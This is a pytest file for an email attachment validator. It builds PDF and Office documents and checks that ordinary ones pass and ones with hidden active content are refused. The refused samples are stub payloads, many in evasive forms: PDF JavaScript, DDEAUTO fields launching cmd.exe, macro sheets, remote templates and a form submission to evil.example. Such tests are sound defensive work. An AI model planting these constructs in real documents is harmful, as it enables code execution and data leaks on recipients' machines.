"""The attachment check against the ways active content hides in a PDF or an office document,
and the ordinary documents it must let through. The files are built here, part by part."""

import io
import random
import zipfile
import zlib

import openpyxl
import pytest
from django.core.exceptions import ValidationError

from mailings import attachments
from mailings.attachments import (
    ACTIVE_CONTENT,
    EMBEDDED,
    OLD_FORMAT,
    OLE,
    UNCHECKABLE,
    attachment_type,
)

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_R = "http://schemas.microsoft.com/office/2006/relationships"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT = "application/vnd.oasis.opendocument.text"


def refusal(name: str, data: bytes) -> str:
    with pytest.raises(ValidationError) as refused:
        attachment_type(name, data)
    return refused.value.messages[0]


# PDF


def pdf(*objects: bytes) -> bytes:
    """A PDF of `objects`, numbered from 1 (the catalog)."""
    data = b"%PDF-1.7\n"
    for number, body in enumerate(objects, 1):
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return data + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


def stream(dictionary: bytes, data: bytes, times: int = 1) -> bytes:
    """A stream object's body with `data` deflated (`times` over)."""
    for _ in range(times):
        data = zlib.compress(data)
    filters = b"/FlateDecode " * times
    return b"<< %s /Filter [%s] /Length %d >>\nstream\n%s\nendstream" % (
        dictionary,
        filters,
        len(data),
        data,
    )


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def page(extra: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R %s >>" % extra


CONTENT = stream(b"", b"BT /F1 12 Tf 72 770 Td (Hallo) Tj ET")


def test_an_ordinary_pdf_passes():
    """As Word and LibreOffice export: the initial view as /OpenAction, a web link, compressed
    content, fonts in an object stream, images. A photo's bytes hold short names by chance."""
    photo = random.Random(1).randbytes(2_000_000) + b"/JS (" + random.Random(2).randbytes(9)
    data = pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
        PAGES,
        page(b"/Annots [6 0 R] /Resources << /Font << /F1 7 0 R >> /XObject << /Im1 8 0 R >> >>"),
        CONTENT,
        stream(b"/Type /ObjStm /N 1 /First 4", b"7 0 << /Type /Font /BaseFont /Helvetica >>"),
        b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org) >> >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        stream(b"/Type /XObject /Subtype /Image /Width 500 /Height 500", bytes(750_000)),
        b"<< /Subtype /Image /Filter /DCTDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(photo), photo),
    )

    assert attachment_type("info.pdf", data) == "application/pdf"


@pytest.mark.parametrize(
    ("catalog", "extra", "message"),
    [
        pytest.param(
            b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",
            b"",
            ACTIVE_CONTENT,
            id="name hex-escaped",
        ),
        pytest.param(
            b"/OpenAction 5 0 R",
            stream(b"/Type /ObjStm /N 1 /First 4", b"5 0 << /S /JavaScript /JS (x) >>"),
            ACTIVE_CONTENT,
            id="in an object stream",
        ),
        pytest.param(
            b"/OpenAction 5 0 R",
            stream(b"/Type /ObjStm /N 1 /First 4", b"5 0 << /S /JavaScript /JS (x) >>", 2),
            ACTIVE_CONTENT,
            id="in an object stream deflated twice",
        ),
        pytest.param(
            b"/Names << /EmbeddedFiles << /Names [(setup.exe) 5 0 R] >> >>",
            b"<< /Type /Filespec /F (setup.exe) /EF << /F 6 0 R >> >>\nendobj\n6 0 obj\n"
            + stream(b"/Type /EmbeddedFile", b"MZ\x90\x00 a program"),
            EMBEDDED,
            id="a program embedded",
        ),
        pytest.param(
            b"/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>",
            b"",
            ACTIVE_CONTENT,
            id="a form sent away on opening",
        ),
        pytest.param(
            b"/Encrypt 5 0 R", b"<< /Filter /Standard /V 2 >>", UNCHECKABLE, id="encrypted"
        ),
        pytest.param(
            b"/OpenAction 5 0 R",
            b"<< /Filter [/ASCII85Decode /FlateDecode] >>",
            UNCHECKABLE,
            id="a filter not unpacked here",
        ),
    ],
)
def test_a_pdf_that_runs_something_is_refused(catalog, extra, message):
    data = pdf(b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog, PAGES, page(), CONTENT, extra)

    assert refusal("info.pdf", data) == message


def test_a_pdf_that_unpacks_to_too_much_is_refused(monkeypatch):
    monkeypatch.setattr(attachments, "MAX_UNPACKED", 100_000)
    data = pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, page(), stream(b"", bytes(100_001)))

    assert refusal("info.pdf", data) == UNCHECKABLE


# Word 97–2003 and Excel 97–2003


@pytest.mark.parametrize(
    ("name", "data"),
    [
        pytest.param("alt.doc", OLE + bytes(200) + "WordDocument".encode("utf-16-le"), id="doc"),
        pytest.param(
            "alt.xls",
            OLE + bytes(200) + "Workbook".encode("utf-16-le") + b'EXEC("calc")',
            id="xls with an Excel 4.0 macro and no VBA project",
        ),
    ],
)
def test_old_binary_office_files_are_refused(name, data):
    assert refusal(name, data) == OLD_FORMAT


# Word, Excel


def package(parts: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def relationships(*relationships: str) -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{''.join(relationships)}</Relationships>"
    )


def word(body: str = "", links: str = "", types: str = "", parts: dict | None = None) -> bytes:
    """A .docx: its document's `body` and relationships (`links`), further content `types` and
    `parts`."""
    return package(
        {
            "[Content_Types].xml": (
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                '<Default Extension="rels" '
                'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                '<Default Extension="xml" ContentType="application/xml"/>'
                f'<Override PartName="/word/document.xml" ContentType="{DOCX}.main+xml"/>'
                f"{types}</Types>"
            ),
            "_rels/.rels": relationships(
                f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/>'
            ),
            "word/document.xml": (
                f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'
            ),
            "word/_rels/document.xml.rels": relationships(links),
            **(parts or {}),
        }
    )


def excel(**cells) -> bytes:
    """An .xlsx as openpyxl writes it."""
    workbook = openpyxl.Workbook()
    for cell, value in cells.items():
        workbook.active[cell] = value
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def run(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def field(*code: str) -> str:
    """A field whose code is written in as many runs as `code` has pieces."""
    begin, end = (f"<w:r><w:fldChar w:fldCharType='{kind}'/></w:r>" for kind in ("begin", "end"))
    return f"<w:p>{begin}{''.join(run(piece) for piece in code)}{end}</w:p>"


def test_an_ordinary_word_file_passes():
    """A web link, fields, a chart whose data is the workbook Word embeds for it."""
    body = (
        '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>Website</w:t></w:r></w:hyperlink></w:p>'
        + field(" HYPERLINK ", '"https://example.org/hidden-dde"')
        + field(" PAGE ")
        + '<w:p><w:fldSimple w:instr=" NUMPAGES "/></w:p>'
    )
    link = (
        f'<Relationship Id="rId5" Type="{R}/hyperlink" Target="https://example.org" '
        'TargetMode="External"/>'
        f'<Relationship Id="rId6" Type="{R}/chart" Target="charts/chart1.xml"/>'
    )
    chart = {
        "word/charts/chart1.xml": "<c:chartSpace xmlns:c='urn:c'/>",
        "word/charts/_rels/chart1.xml.rels": relationships(
            f'<Relationship Id="rId1" Type="{R}/package" '
            'Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>'
        ),
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": excel(A1="Jahr", B1=2025),
    }

    assert attachment_type("brief.docx", word(body, link, parts=chart)) == DOCX


def test_an_ordinary_spreadsheet_passes():
    assert attachment_type("liste.xlsx", excel(A1="Name", A2="=SUM(1,2)")) == XLSX


MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_SHEET = {"xl/macrosheets/sheet1.xml": '<xm:macrosheet xmlns:xm="urn:x"/>'}


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        pytest.param(
            "brief.docx",
            word(types=f'<Override PartName="/word/document.xml" ContentType="{MACROS}"/>'),
            ACTIVE_CONTENT,
            id="a .docm renamed",
        ),
        pytest.param(
            "brief.docx",
            word(
                links=f'<Relationship Id="rId9" Type="{MS_R}/vbaProject" Target="macros.bin"/>',
                parts={"word/macros.bin": b"VBA"},
            ),
            ACTIVE_CONTENT,
            id="macros not named vbaProject.bin",
        ),
        pytest.param(
            "brief.docx",
            word(parts={"word/media/image1.png": OLE + bytes(500)}),
            EMBEDDED,
            id="an OLE compound file under any name",
        ),
        pytest.param(
            "liste.xlsx",
            package({"xl/workbook.xml": "<workbook/>", **MACRO_SHEET}),
            ACTIVE_CONTENT,
            id="an Excel 4.0 macro sheet",
        ),
        pytest.param(
            "brief.docx",
            word(
                parts={
                    "word/settings.xml": f'<w:settings xmlns:w="{W}"/>',
                    "word/_rels/settings.xml.rels": relationships(
                        f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
                        'Target="https://evil.example/t.dotm" TargetMode="External"/>'
                    ),
                }
            ),
            EMBEDDED,
            id="a template from the web",
        ),
        pytest.param(
            "brief.docx",
            word(
                links=f'<Relationship Id="rId7" Type="{R}/image" '
                'Target="https://evil.example/pixel.png" TargetMode="External"/>'
            ),
            EMBEDDED,
            id="a picture from the web",
        ),
        pytest.param(
            "brief.docx",
            word(
                links=f'<Relationship Id="rId8" Type="{R}/oleObject" '
                'Target="embeddings/oleObject1.bin"/>',
                parts={"word/embeddings/oleObject1.bin": OLE + b"Package setup.exe MZ"},
            ),
            EMBEDDED,
            id="an OLE package holding a program",
        ),
        pytest.param(
            "brief.docx",
            word(
                parts={
                    "word/embeddings/Microsoft_Excel_Worksheet.xlsx": package(
                        {"xl/workbook.xml": "<workbook/>", **MACRO_SHEET}
                    )
                }
            ),
            ACTIVE_CONTENT,
            id="a chart's workbook with a macro sheet",
        ),
        pytest.param(
            "brief.docx",
            word('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;"/></w:p>'),
            ACTIVE_CONTENT,
            id="a DDEAUTO field",
        ),
        pytest.param(
            "brief.docx",
            word(field(" DD", "&#69;AUTO c:\\\\windows\\\\cmd.exe")),
            ACTIVE_CONTENT,
            id="a DDEAUTO field in pieces, a letter escaped",
        ),
    ],
)
def test_an_office_file_that_runs_or_loads_something_is_refused(name, data, message):
    assert refusal(name, data) == message


def test_a_container_too_large_unpacked_or_of_too_many_parts_is_refused(monkeypatch):
    monkeypatch.setattr(attachments, "MAX_UNPACKED", 100_000)
    monkeypatch.setattr(attachments, "MAX_PARTS", 10)

    assert refusal("brief.docx", word(parts={"word/media/a.png": bytes(100_001)})) == UNCHECKABLE
    many = {f"word/media/image{n}.png": b"" for n in range(10)}
    assert refusal("brief.docx", word(parts=many)) == UNCHECKABLE


# LibreOffice


def writer(body: str = "", parts: dict | None = None) -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    namespaces = (
        f'xmlns:office="{office}" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"'
    )
    return package(
        {
            "mimetype": ODT,
            "content.xml": (
                f"<office:document-content {namespaces}><office:scripts/>"
                f"<office:body><office:text>{body}</office:text></office:body>"
                "</office:document-content>"
            ),
            **(parts or {}),
        }
    )


def test_an_ordinary_libreoffice_text_passes():
    body = (
        '<text:p><text:a xlink:href="https://example.org">Website</text:a></text:p>'
        '<draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame>'
    )
    data = writer(body, {"Pictures/1.png": b"\x89PNG"})

    assert attachment_type("protokoll.odt", data) == ODT


@pytest.mark.parametrize(
    ("body", "message"),
    [
        pytest.param(
            '<office:event-listeners><script:event-listener script:event-name="dom:load" '
            'xlink:href="vnd.sun.star.script:LibreLogo|LibreLogo.py$run?location=share"/>'
            "</office:event-listeners>",
            ACTIVE_CONTENT,
            id="the office program's own script run on opening",
        ),
        pytest.param(
            '<text:p><text:a xlink:href="macro:///Tools.Misc.Run">Hier</text:a></text:p>',
            ACTIVE_CONTENT,
            id="a link that runs a macro",
        ),
        pytest.param(
            '<draw:frame><draw:image xlink:href="https://evil.example/p.png"/></draw:frame>',
            EMBEDDED,
            id="a picture from the web",
        ),
    ],
)
def test_a_libreoffice_file_that_runs_or_loads_something_is_refused(body, message):
    assert refusal("protokoll.odt", writer(body)) == message
